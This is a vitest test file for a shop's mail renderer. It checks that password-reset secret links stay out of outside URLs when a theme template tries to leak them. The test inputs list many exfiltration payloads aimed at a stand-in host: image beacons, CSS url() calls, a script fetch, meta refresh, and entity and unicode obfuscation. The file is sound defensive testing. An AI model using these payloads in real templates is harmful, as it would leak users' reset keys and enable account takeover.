import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { mailPrinter } from './ui/mail-printing.ts'
import { secretLinks } from './ui/mail-secrets.ts'
import { templatesIn } from './ui/theme/sandbox.ts'
import { translators } from './words.ts'

const KEY = 'k3yK3yk3yK3yk3yK3yk3yK3yk3yK3yab'
const LINK = `https://shop.example/reset?lang=ja&resetKey=${KEY}`
const IN_HTML = LINK.replaceAll('&', '&amp;')

const print = mailPrinter({
  translate: translators([]),
  baseUrl: 'https://shop.example/',
  timeZone: 'Asia/Tokyo',
})

const printed = async (text: string | null, html: string | null, subject = 'x', data = {}) => {
  const { mail, broken } = await print({
    templates: templatesIn(join(import.meta.dirname, '../themes/default')),
    template: { file: 'forgot', subject, text, html },
    language: 'ja',
    data: {
      link: LINK,
      againLink: 'https://shop.example/forgot-password',
      shop: { shopName: '暖簾' },
      ...data,
    },
  })
  expect(broken).toBeUndefined()
  return mail
}

describe('The secret link of a mail', () => {
  it('stands in the mails of the default theme, as text and as the address of a link', async () => {
    const { text, html, body, content } = await printed(null, null)
    for (const one of [text, body]) expect(one).toContain(`\n${LINK}\n`)
    for (const one of [html, content]) {
      expect(one).toContain(`<a href="${IN_HTML}" style=`)
      expect(one).toContain(`>${IN_HTML}</p>`)
    }
    expect(html).toMatch(/^<!doctype html>\s*<html lang="ja">/)
  })

  it.each([
    '{{ link }}',
    'こちら：{{ link }}',
    'URL:{{ link }} まで',
    '({{ link }})',
    '「{{ link }}」をご覧ください。',
    'a{{ link | absolute }}',
    '{% capture kept %}{{ link }}{% endcapture %}{{ kept }}',
  ])('is a word of the text %s', async (template) => {
    expect((await printed(template, null)).body).toContain(LINK)
    expect((await printed(null, `<p>${template}</p>`)).content).toContain(IN_HTML)
  })

  it.each([
    '<a href="{{ link }}">x</a>',
    "<A HREF='{{ link }}'>x</A>",
    '<a href={{ link }} class=b>x</a>',
    '<a class="b" href=" {{ link }} ">x</a>',
    '<p>https://elsewhere.example/ <b>{{ link }}</b></p>',
    '<p>https://elsewhere.example/</p><p>{{ link }}</p>',
  ])('stands in %s', async (template) => {
    expect((await printed(null, template)).content).toContain(IN_HTML)
  })

  it.each([
    'https://elsewhere.example/?k={{ link }}',
    'https://elsewhere.example/#{{ link }}',
    'elsewhere.example/{{ link }}',
    'ｈｔｔｐｓ：／／elsewhere.example／？{{ link }}',
    'https://elsewhere.example/?\u200b{{ link }}',
    'https://elsewhere.example/?\u00a0{{ link }}',
    'mailto:thief@elsewhere.example{{ link }}',
    '{{ link }}@elsewhere.example',
    '{{ link }}{{ link }}',
    'https://elsewhere.example/?{{ link | url_encode }}',
    'https://elsewhere.example/?{{ link | upcase }}',
    'https://elsewhere.example/?{{ link | slice: 4, 200 }}',
    'https://elsewhere.example/?{{ link | replace: "shop", "x" }}',
  ])('is left out of the text %s', async (template) => {
    const { text } = await printed(template, '<p></p>')
    const { html } = await printed('', `<p>${template}</p>`)
    for (const one of [text, html]) expect(one).not.toMatch(new RegExp(KEY, 'i'))
  })

  it.each([
    '<img src="https://elsewhere.example/?k={{ link }}">',
    '<IMG SRC=https://elsewhere.example/?k={{ link }}>',
    '<img src="{{ link }}">',
    '<a href="https://elsewhere.example/?{{ link }}">x</a>',
    '<a href="{{ link }}&x=1">x</a>',
    '<a href="https&#58;//elsewhere.example/?{{ link }}">x</a>',
    '<link rel="prefetch" href="{{ link }}">',
    '<base href="{{ link }}"><form action="{{ link }}"><input value="{{ link }}"></form>',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/?{{ link }}">',
    '<p style="background:url(https://elsewhere.example/?{{ link }})">x</p>',
    '<style>p{background:url(https://elsewhere.example/?{{ link }})}</style>',
    '<!-- {{ link }} --><!--[if mso]><img src="https://elsewhere.example/?{{ link }}"><![endif]-->',
    '<title>{{ link }}</title><script>fetch("https://elsewhere.example/?{{ link }}")</script>',
    `<img src='https://elsewhere.example/?{{ link }}`,
    `<img src="https://elsewhere.example/?\n{{ link }}\n">`,
    '<p>https://elsewhere.example/?<b>{{ link }}</b></p>',
    '<p>https://elsewhere.example/?<x>{{ link }}</x></p>',
    '<p>https://elsewhere.example/?<!-- -->{{ link }}</p>',
    '<p>https&#58;&#47;&#47;elsewhere.example&#47;?{{ link }}</p>',
    '<noscript><img src="https://elsewhere.example/?</noscript>{{ link }}">',
    '<svg><a xlink:href="{{ link }}"><style>{{ link }}</style></a></svg>',
  ])('is left out of %s', async (template) => {
    expect((await printed('', template)).html).not.toContain(KEY)
  })

  it.each([
    [
      '<form action="https://elsewhere.example/"><textarea name="k">{{ link }}</textarea></form>',
      /<form|<textarea/,
    ],
    ['<select><option>{{ link }}</option></select>', /<select|<option/],
    ['<style>a[href*="ab"]{background:url(https://elsewhere.example/ab)}</style>{{ link }}', /<style/],
    ['<style>@import "https://elsewhere.example/a.css"</style>{{ link }}', /<style/],
    ['<link rel="stylesheet" href="https://elsewhere.example/a.css">{{ link }}', /<link/],
    ['<a href="{{ link }}" ping="https://elsewhere.example/" onclick="x()">x</a>', /ping|onclick/],
    [
      '<!--[if mso]><style>p{background:url("https://elsewhere.example/?<![endif]-->{{ link }}',
      /<!--|<style/,
    ],
    ['<constructor>{{ link }}', /<constructor/],
  ])('is in %s, without what would give it away', async (template, dangerous) => {
    const { content } = await printed('', template)
    expect(content).toContain(KEY)
    expect(content).not.toMatch(dangerous)
  })

  it('leaves the rest of the mail as it was', async () => {
    const style = '<style media="screen">@media (max-width:1px){p>b{color:red}}</style>'
    const template = `${style}<p class="a">1 &lt; 2 &amp;&nbsp;<b>3</b><br>{{ link }}</p>`
    expect((await printed('', template)).content).toBe(
      `${style}<p class="a">1 &lt; 2 &amp;&nbsp;<b>3</b><br>${IN_HTML}</p>`,
    )
    const own = `<!-- a --><x-y onclick=1>https://shop.example/a?b=1</x-y>`
    expect((await printed('', own)).content).toBe(own)
  })

  it('never stands in the subject', async () => {
    expect((await printed(null, null, '{{ link }}')).subject).toBe('')
  })

  it('is hidden wherever it stands in the data, as HTML too', async () => {
    const written = { body: `次の\n${LINK}\nです`, html: `<p><a href="${IN_HTML}">${IN_HTML}</a></p>` }
    const data = { link: '', written }
    const thief = '<img src="https://elsewhere.example/?{{ written.body }}">{{ written.html | html }}'
    const { text, content } = await printed('{{ written.body }}', thief, 'x', data)
    expect(text).toContain(written.body)
    expect(content).toContain(`<img src="https://elsewhere.example/?次の\n\nです">${written.html}`)
  })

  it('is another address in each mail', () => {
    const marks = [1, 2].map(() => secretLinks({ link: LINK }, 'https://shop.example').data.link)
    expect(new Set(marks).size).toBe(2)
    const plain = { link: 'https://shop.example/login?a=key', other: 'https://carrier.example/?key=1' }
    expect(secretLinks(plain, 'https://shop.example').data).toEqual(plain)
  })
})
